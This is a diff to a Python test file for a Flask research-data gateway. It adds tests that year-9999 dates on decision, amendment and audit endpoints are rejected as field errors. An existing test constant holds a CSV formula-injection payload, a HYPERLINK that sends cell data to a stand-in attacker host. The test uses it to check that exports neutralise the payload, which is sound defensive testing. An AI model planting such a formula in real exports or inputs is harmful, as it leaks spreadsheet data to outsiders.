@@ -9,12 +9,19 @@ reason, and a high-risk extract a second person.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
 from flask.testing import FlaskClient
+from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 
 from gateway.db import unit_of_work
+from gateway.identity import tokens
+from projects import applications
+from projects.models import Application, Project
+from tests.conftest import sign_in_session
+from tests.integration.test_pages import csrf_from
 from tests.support import factories as f
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full data")'
@@ -31,3 +38,65 @@ def test_a_formula_in_a_project_title_is_neutralised_in_the_register_csv(
     assert [r["Project Title"] for r in rows] == ["'" + FORMULA_TITLE]
     # the JSON and the page are not spreadsheets: they carry the title as written
     assert [r["Project Title"] for r in client.get("/register.json").json] == [FORMULA_TITLE]
+
+
+# --- 9: dates ---------------------------------------------------------------------------------------------------
+
+def _quorate(factory: sessionmaker[Session]) -> int:
+    app_id = f.draft(factory)
+    f.submit(factory, app_id)
+    f.review_round(factory, app_id, {"dac1": "approve", "dac2": "approve", "laymember": "approve"})
+    return app_id
+
+
+def _bearer(factory: sessionmaker[Session], username: str) -> dict[str, str]:
+    with unit_of_work(factory) as s:
+        owner = f.user(s, username)
+        secret = tokens.create_token(s, owner, owner, "test", days=1)[1]
+    return {"Authorization": f"Bearer {secret}"}
+
+
+def test_an_access_end_date_in_year_9999_is_a_field_error_not_a_500(
+        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
+    with unit_of_work(session_factory) as s:
+        f.accredit(s, "researcher")
+    page_app, api_app = _quorate(session_factory), _quorate(session_factory)
+    sign_in_session(client, session_factory, "dacchair")
+    token = csrf_from(client.get(f"/applications/{page_app}").get_data(as_text=True))
+    page = client.post(f"/applications/{page_app}/decision", data={
+        "csrf_token": token, "outcome": "approved", "access_end_date": "9999-12-31"}, follow_redirects=True)
+    assert page.status_code == 200 and "on or before" in page.get_data(as_text=True)
+    api = client.post(f"/api/v1/applications/{api_app}/decision", headers=_bearer(session_factory, "dacchair"),
+                      json={"outcome": "approved", "access_end_date": "9999-12-31"})
+    assert api.status_code == 422 and "access_end_date" in api.json["detail"]["fields"], api.json
+    with session_factory() as s:  # nothing was decided
+        assert {a.state for a in s.scalars(select(Application).where(Application.id.in_([page_app, api_app])))} \
+            == {"under_review"}
+        assert s.scalar(select(Project.id)) is None
+
+
+def test_an_amendment_asking_for_year_9999_is_refused_when_saved(
+        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
+    """Stored, it broke the application page for good: the quote counts anniversaries up to year 10000."""
+    with unit_of_work(session_factory) as s:
+        f.accredit(s, "researcher")
+    project_id = f.approved_project(session_factory)
+    with unit_of_work(session_factory) as s:
+        project = s.get(Project, project_id)
+        assert project is not None
+        amendment = applications.start_amendment(s, f.user(s, "researcher"), project).id
+    sign_in_session(client, session_factory, "researcher")
+    response = client.patch(f"/api/v1/applications/{amendment}", headers=_bearer(session_factory, "researcher"),
+                            json={"requested_end_date": "9999-12-31"})
+    assert response.status_code == 422 and "requested_end_date" in response.json["detail"]["fields"]
+    assert client.get(f"/applications/{amendment}").status_code == 200
+
+
+def test_audit_filters_up_to_the_last_day_of_the_calendar_are_field_errors(
+        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
+    sign_in_session(client, session_factory, "auditor")
+    assert client.get("/audit/?until=9999-12-31").status_code == 422
+    assert client.get("/audit/events.csv?until=9999-12-31").status_code == 422
+    api = client.get("/api/v1/audit/events?until=9999-12-31", headers=_bearer(session_factory, "auditor"))
+    assert api.status_code == 422 and "until" in api.json["detail"]["fields"]
+    assert client.get(f"/audit/?until={dt.date.today().isoformat()}").status_code == 200
